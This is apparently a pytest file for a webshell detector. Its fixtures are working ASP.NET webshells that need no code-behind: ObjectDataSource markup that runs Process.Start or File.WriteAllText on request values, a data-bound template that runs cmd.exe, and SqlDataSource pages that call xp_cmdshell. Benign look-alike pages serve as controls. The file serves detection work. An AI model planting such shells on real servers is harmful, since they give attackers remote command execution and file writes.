"""Pages that run code they do not hold: a declared `<asp:ObjectDataSource>` calls the method it
names with the request values its parameters name, and a control bound to a declared data source
(`DataSourceID`) evaluates its `<%# %>` templates without any `DataBind` call. Each shell is written
from the platform's documentation of these controls, each with a genuine page that looks like it
(docs/detection/webshell-code.md, "Pages without code")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, run

SHELLS = [
    (
        "ods-process.aspx",
        """<%@ Page Language="C#" %>
<html><body><form runat="server">
<asp:ObjectDataSource ID="src" runat="server" TypeName="System.Diagnostics.Process" SelectMethod="Start">
  <SelectParameters>
    <asp:QueryStringParameter Name="fileName" QueryStringField="f" Type="String" />
    <asp:QueryStringParameter Name="arguments" QueryStringField="a" Type="String" />
  </SelectParameters>
</asp:ObjectDataSource>
<asp:GridView ID="out" runat="server" DataSourceID="src" />
</form></body></html>""",
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'f'", "Process.Start"],
    ),
    (
        "ods-write.aspx",
        """<%@ Page Language="C#" %>
<form runat="server">
<asp:ObjectDataSource ID="w" runat="server"
    TypeName="System.IO.File, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
    InsertMethod="WriteAllText">
  <InsertParameters>
    <asp:FormParameter Name="path" FormField="p" />
    <asp:FormParameter Name="contents" FormField="c" />
  </InsertParameters>
</asp:ObjectDataSource>
<asp:DetailsView ID="d" runat="server" DataSourceID="w" DefaultMode="Insert" AutoGenerateInsertButton="true" />
</form>""",
        "EXH-WS-CODE-FILE-WRITE",
        ["form field 'p'", "WriteAllText"],
    ),
    (
        "ods-control.aspx",
        """<%@ Page Language="VB" %>
<form runat="server">
<asp:TextBox ID="cmd" runat="server" />
<asp:Button ID="go" runat="server" Text="Run" />
<asp:ObjectDataSource ID="ods" runat="server" TypeName="System.Diagnostics.Process" SelectMethod="Start">
  <SelectParameters>
    <asp:Parameter Name="fileName" DefaultValue="cmd.exe" />
    <asp:ControlParameter Name="arguments" ControlID="cmd" />
  </SelectParameters>
</asp:ObjectDataSource>
<asp:Repeater ID="r" runat="server" DataSourceID="ods"><ItemTemplate>started</ItemTemplate></asp:Repeater>
</form>""",
        "EXH-WS-CODE-PROCESS",
        ["page control 'cmd'", "Process.Start"],
    ),
    (
        "bound-template.aspx",
        """<%@ Page Language="C#" %>
<form runat="server">
<asp:XmlDataSource ID="one" runat="server" XPath="r/i"><Data><r><i/></r></Data></asp:XmlDataSource>
<asp:Repeater ID="rep" runat="server" DataSourceID="one"><ItemTemplate>
<pre><%# new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true } }.Start() %></pre>
</ItemTemplate></asp:Repeater>
</form>""",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_page_without_code_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


def test_declared_call_at_its_tag_line() -> None:
    report = run("ods-process.aspx", SHELLS[0][1])
    hit = next(c for c in report.capabilities if c.rule_id == "EXH-WS-CODE-PROCESS")
    assert hit.line == 3


BENIGN = [
    (
        "products.aspx",
        """<%@ Page Language="C#" MasterPageFile="~/Site.Master" %>
<asp:Content ContentPlaceHolderID="main" runat="server">
<asp:DropDownList ID="category" runat="server" AutoPostBack="true" />
<asp:ObjectDataSource ID="products" runat="server" TypeName="Shop.Catalog.ProductRepository"
    SelectMethod="GetByCategory" DeleteMethod="Delete">
  <SelectParameters>
    <asp:QueryStringParameter Name="category" QueryStringField="cat" Type="Int32" />
    <asp:ControlParameter Name="sub" ControlID="category" />
  </SelectParameters>
  <DeleteParameters><asp:Parameter Name="id" Type="Int32" /></DeleteParameters>
</asp:ObjectDataSource>
<asp:GridView ID="grid" runat="server" DataSourceID="products" AutoGenerateColumns="false">
  <Columns><asp:TemplateField><ItemTemplate>
    <a href='<%# Eval("Url") %>'><%# Server.HtmlEncode((string)Eval("Name")) %></a>
    <%# System.IO.Path.GetFileName((string)Eval("Image")) %>
  </ItemTemplate></asp:TemplateField></Columns>
</asp:GridView>
</asp:Content>""",
    ),
    (
        "docs.aspx",
        """<%@ Page Language="C#" %>
<form runat="server">
<asp:ObjectDataSource ID="files" runat="server" TypeName="System.IO.Directory" SelectMethod="GetFiles">
  <SelectParameters><asp:Parameter Name="path" DefaultValue="D:\\Sites\\docs\\public" /></SelectParameters>
</asp:ObjectDataSource>
<asp:SqlDataSource ID="log" runat="server" ConnectionString="<%$ ConnectionStrings:Main %>"
    SelectCommand="SELECT Name, Size FROM Downloads WHERE Folder = @f">
  <SelectParameters><asp:QueryStringParameter Name="f" QueryStringField="folder" /></SelectParameters>
</asp:SqlDataSource>
<asp:Repeater ID="r" runat="server" DataSourceID="log"><ItemTemplate>
  <%# Eval("Name") %> (<%# String.Format("{0:N0}", Eval("Size")) %> bytes)
</ItemTemplate></asp:Repeater>
<asp:BulletedList ID="b" runat="server" DataSourceID="files" />
</form>""",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, code: str) -> None:
    assert_benign(name, code)


def test_benign_declared_call_is_read() -> None:
    # The repository's method is read as a call (a request value reaches it), not skipped.
    report = run("products.aspx", BENIGN[0][1])
    assert report.units >= 1 and report.sinks == 0


# An `<asp:SqlDataSource>` runs its command text with its parameters bound: with xp_cmdshell as the
# command (written out, or named as a stored procedure) a page of markup alone runs the client's
# command on the database server (docs/detection/webshell-code.md, "Markup, assembly files...").
SQL_SHELLS = [
    (
        "sds-xp.aspx",
        """<%@ Page Language="C#" %>
<form runat="server">
<asp:SqlDataSource ID="q" runat="server" ConnectionString="server=.;uid=sa;pwd=Passw0rd"
    SelectCommand="exec master..xp_cmdshell @c">
  <SelectParameters><asp:QueryStringParameter Name="c" QueryStringField="c" /></SelectParameters>
</asp:SqlDataSource>
<asp:GridView ID="g" runat="server" DataSourceID="q" />
</form>""",
        "EXH-WS-CODE-SQL-SHELL",
        ["query parameter 'c'"],
    ),
    (
        "sds-proc.aspx",
        """<%@ Page Language="C#" %>
<form runat="server">
<asp:TextBox ID="cmd" runat="server" />
<asp:SqlDataSource ID="q" runat="server" ConnectionString="<%$ ConnectionStrings:Main %>"
    SelectCommand="master.dbo.xp_cmdshell" SelectCommandType="StoredProcedure">
  <SelectParameters><asp:ControlParameter Name="command_string" ControlID="cmd" /></SelectParameters>
</asp:SqlDataSource>
<asp:GridView ID="g" runat="server" DataSourceID="q" />
</form>""",
        "EXH-WS-CODE-SQL-SHELL",
        ["page control 'cmd'"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SQL_SHELLS, ids=[s[0] for s in SQL_SHELLS])
def test_sql_data_source_shell_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


def test_sql_data_source_read_as_its_command() -> None:
    # The search page of `docs.aspx` is read as the SQL command it runs (no shell: see BENIGN).
    from exhunt.codeanalysis.extract import declared_calls

    calls = [c for c, _ in declared_calls(BENIGN[1][1], {})]
    assert any(
        'SqlCommand("SELECT Name, Size FROM Downloads' in c and 'Request.QueryString["folder"]' in c for c in calls
    )
    proc = [c for c, _ in declared_calls(SQL_SHELLS[1][1], {"cmd": "TextBox"})]
    assert proc == ['new System.Data.SqlClient.SqlCommand("exec master.dbo.xp_cmdshell" + cmd.Text);']


def test_pages_without_code_pass_the_file_hunt_prefilter() -> None:
    from exhunt.filehunt import codehunt
    from exhunt.filehunt.locations import Location, Place

    where = Location("c:/inetpub/wwwroot/owa/x.aspx", Place.IIS_WEBROOT, True)
    assert codehunt.wants(where, SHELLS[0][1].encode())
    assert codehunt.wants(where, SQL_SHELLS[0][1].encode())
